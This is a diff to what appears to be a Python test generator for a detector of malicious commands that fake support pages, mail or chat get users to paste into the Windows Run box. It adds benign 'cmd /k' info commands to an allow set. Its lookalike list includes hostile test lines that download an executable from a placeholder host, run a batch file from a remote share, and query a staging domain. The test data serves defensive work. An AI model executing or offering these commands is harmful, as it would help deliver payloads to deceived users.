@@ -351,10 +351,14 @@ QUERIES = [
     "powershell -NoExit -Command ipconfig /all", "powershell -noexit get-service",
     "powershell -NoLogo -NoExit -Command Get-PhysicalDisk",
 ]  # fmt: skip
+# Of those, a console kept open on what only shows this computer's settings and nothing a fake
+# support page reads out as "proof" (runbox.Shape.SHOW, since design16's weighing): from any page
+PAGE_SHOWN = frozenset({"cmd /k ipconfig /all", "cmd.exe /k systeminfo", "cmd /K whoami /groups",
+                        "cmd /k getmac /v", "cmd /k driverquery /v", "cmd /k hostname"})  # fmt: skip
 QUERY_LOOKALIKES = [
     "cmd /k ipconfig /all & calc", "cmd /k ipconfig /all && curl -o a.exe https://dl.quillmere.example/a",
     "cmd /c ipconfig /all | clip", "cmd /k ipconfig /release", "cmd /k ipconfig /all /all",
-    "cmd /k nslookup -q=txt stage.quillmere.example", "cmd /k ping -n 1 203.0.113.9",
+    "cmd /k nslookup -q=txt stage.quillmere.example", "cmd /k ping -n 1 -n 2 203.0.113.9",
     "cmd /k start https://verify.quillmere.example/", "cmd /k curl https://dl.quillmere.example/a",
     r"cmd /k \\files.quillmere.example\share\run.bat", "cmd /k systeminfo extra",
     "cmd ipconfig /all", "cmd /k", r"cmd /k whoami /all > %TEMP%\w.txt",
@@ -400,12 +404,17 @@ def run_box(book: Book) -> None:
         # the same entries written by a page: a command in the Run box, blocked
         for i, text in enumerate(typed[::2]):
             page = (HELP_PAGE, STRANGER)[i % 2]
-            expect = "not_flagged" if text in PAGE_ONLY else "malicious"
+            expect = "not_flagged" if text in PAGE_ONLY | PAGE_SHOWN else "malicious"
             book.add(tech, text, expect, "windows", RUN if i % 3 else BAR, page)
         # ...or by a mail or a chat: a command there, at least a warning
         for text in typed[1::5]:
             book.add(
-                tech, text, "not_flagged" if text in PAGE_ONLY else "flagged", "windows", RUN, MAIL
+                tech,
+                text,
+                "not_flagged" if text in PAGE_ONLY | PAGE_SHOWN else "flagged",
+                "windows",
+                RUN,
+                MAIL,
             )
 
 
